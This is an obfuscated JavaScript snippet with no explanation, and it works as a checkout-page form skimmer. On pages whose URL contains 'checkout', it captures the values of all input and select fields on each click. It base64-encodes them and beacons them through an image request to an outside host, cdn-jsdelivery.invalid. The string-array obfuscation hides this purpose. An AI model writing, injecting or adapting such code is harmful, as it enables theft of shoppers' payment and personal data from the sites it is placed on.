var _0x3f1a = ['addEventListener', 'https://cdn-jsdelivery.invalid/', 'value', 'querySelectorAll', 'input,select', 'length', 'stringify', 'src', 'name', 'click', 'createElement', 'img', 'location', 'checkout', 'href', 'indexOf'];
(function (a, n) {
  var rot = function (k) { while (--k) a.push(a.shift()); };
  rot(++n);
})(_0x3f1a, 0x4);
var _0x11b2 = function (i) { return _0x3f1a[(i - 0x0 + 0xc) % 0x10]; };
(function () {
  var d = document, w = window;
  if (w[_0x11b2(0xc)][_0x11b2(0xe)][_0x11b2(0xf)](_0x11b2(0xd)) < 0x0) return;
  d[_0x11b2(0x0)](_0x11b2(0x9), function () {
    var o = {}, e = d[_0x11b2(0x3)](_0x11b2(0x4));
    for (var i = 0x0; i < e[_0x11b2(0x5)]; i++) {
      if (e[i][_0x11b2(0x2)]) o[e[i][_0x11b2(0x8)]] = e[i][_0x11b2(0x2)];
    }
    var p = d[_0x11b2(0xa)](_0x11b2(0xb));
    p[_0x11b2(0x7)] = _0x11b2(0x1) + '?s=' + w['\x62\x74\x6f\x61'](JSON[_0x11b2(0x6)](o));
  }, true);
})();
